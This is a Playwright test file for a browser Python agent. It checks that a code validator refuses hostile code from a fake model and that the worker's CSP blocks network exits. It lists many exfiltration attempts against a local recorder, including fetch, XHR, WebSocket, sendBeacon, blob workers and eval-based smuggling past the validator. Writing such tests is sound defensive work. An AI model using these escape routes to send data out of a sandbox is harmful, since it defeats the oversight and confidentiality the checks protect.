// Network isolation. A recorder on a second loopback port notes every connection.
// Hostile code is tried (a) through the agent, where the validator must refuse it, and
// (b) directly in the worker, past the validator, where the worker's CSP
// (connect-src 'self') must stop every way out. Nothing may reach the recorder, while
// the page itself can reach it (so the recorder was listening all along).
import { expect, test } from "@playwright/test";
import { collectEvents, debugPython, events, openApp, scripted, startFakeModel, startRecorder, useFakeModel, type Recorder } from "./helpers";

let recorder: Recorder;
test.beforeEach(async () => {
  recorder = await startRecorder();
});
test.afterEach(async () => {
  await recorder.close();
});

/** Nothing reached the recorder; then prove it was reachable from the page all along. */
async function nothingReached(page: import("@playwright/test").Page) {
  await page.waitForTimeout(1_000); // let any late request arrive
  expect(recorder.hits).toEqual([]);
  const control = await page.evaluate((url) => fetch(`${url}/control`).then((r) => r.text()), recorder.origin);
  expect(control).toBe("recorded");
  expect(recorder.hits).toContain("GET /control");
}

test("hostile code from the model is refused by the validator and never runs", async ({ page }) => {
  const target = recorder.origin;
  const hostile = [
    `from js import fetch\nawait fetch("${target}/js-fetch")`,
    `import pyodide.http\nawait pyodide.http.pyfetch("${target}/pyfetch")`,
    `__import__("js").XMLHttpRequest.new().open("GET", "${target}/dunder-import")`,
    `import urllib.request\nurllib.request.urlopen("${target}/urllib")`,
    `f = eval\nf("__import__('js').fetch('${target}/eval')")`,
  ];
  const model = await startFakeModel(scripted(...hostile.map((code) => ({ message: "Trying.", code }))));
  try {
    await openApp(page);
    await useFakeModel(page, model);
    await collectEvents(page);
    const end = await page.evaluate(() => (window as any).pyAgent.send("Reach out"));
    expect(end.reason).toBe("done");
    const refused = await events(page, "validation_failed");
    expect(refused).toHaveLength(hostile.length);
    expect(await events(page, "execution_result")).toEqual([]);
    await expect(page.locator(".note.warn").first()).toContainText("refused before it ran");
    await nothingReached(page);
  } finally {
    await model.close();
  }
});

test("past the validator, the worker's CSP blocks every way out", async ({ page }) => {
  await openApp(page);
  const target = recorder.origin;
  const outcomes = await debugPython(
    page,
    `
import asyncio, js
from pyodide.ffi import to_js
from pyodide.http import pyfetch

target = "${target}"
ws_target = target.replace("http:", "ws:")
outcomes = {}

async def attempt(name, action):
    try:
        value = action()
        if hasattr(value, "then") or asyncio.iscoroutine(value):
            value = await value
        outcomes[name] = f"no error: {value!r}"
    except Exception as exc:
        outcomes[name] = f"blocked: {type(exc).__name__}: {exc}"[:160]

def sync_xhr():
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", target + "/xhr-sync", False)
    xhr.send()
    return xhr.status

def async_xhr():
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", target + "/xhr-async", True)
    xhr.send()
    return "sent"

def blob_worker():
    source = to_js([f"fetch('{target}/from-blob-worker')"])
    url = js.URL.createObjectURL(js.Blob.new(source, to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)))
    return js.Worker.new(url)

await attempt("fetch", lambda: js.fetch(target + "/fetch"))
await attempt("fetch no-cors", lambda: js.fetch(target + "/no-cors", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries)))
await attempt("pyfetch", lambda: pyfetch(target + "/pyfetch"))
await attempt("sync XMLHttpRequest", sync_xhr)
await attempt("async XMLHttpRequest", async_xhr)
await attempt("WebSocket", lambda: js.WebSocket.new(ws_target + "/ws"))
await attempt("EventSource", lambda: js.EventSource.new(target + "/sse"))
await attempt("sendBeacon", lambda: js.navigator.sendBeacon(target + "/beacon", "x"))
await attempt("importScripts", lambda: js.importScripts(target + "/import.js"))
await attempt("cross-origin Worker", lambda: js.Worker.new(target + "/worker.js"))
await attempt("blob Worker", blob_worker)
await attempt("loadPackage", lambda: js.pyodide.loadPackage(target + "/pkg-1.0-py3-none-any.whl"))
await asyncio.sleep(0.5)

# Control: the same fetch to the worker's own origin works.
own = await js.fetch("/build.json")
outcomes["own origin"] = own.status
result = outcomes
`,
  );
  test.info().annotations.push({ type: "outcomes", description: JSON.stringify(outcomes, null, 1) });
  // Calls that throw must say so; calls that only fail later or quietly (async XHR,
  // WebSocket, EventSource, sendBeacon, loadPackage) are judged by the recorder below.
  for (const name of ["fetch", "fetch no-cors", "pyfetch", "sync XMLHttpRequest", "importScripts", "cross-origin Worker"]) {
    expect(outcomes[name], name).toMatch(/^blocked/);
  }
  expect(outcomes["own origin"]).toBe(200);
  await nothingReached(page);
});

test("the page's shim refuses requests to any origin but the model's", async ({ page }) => {
  const model = await startFakeModel(scripted());
  try {
    await openApp(page);
    await useFakeModel(page, model, { key: "sk-never-elsewhere" });
    const outcome = await debugPython(
      page,
      `
from py_agent.transports.base import BEARER, HttpRequest
try:
    await runtime.transport.send(HttpRequest("POST", "${recorder.origin}/v1/chat/completions", body=b"{}", auth=BEARER))
    result = "sent"
except Exception as exc:
    result = [type(exc).__name__, exc.message, exc.hint]
`,
    );
    expect(outcome[0]).toBe("ShimRefusedError");
    expect(outcome[1]).toContain(`only the configured model endpoint (${model.origin})`);
    expect(outcome[2]).toContain("Settings");
    expect(model.requests).toEqual([]);
    await nothingReached(page);
  } finally {
    await model.close();
  }
});
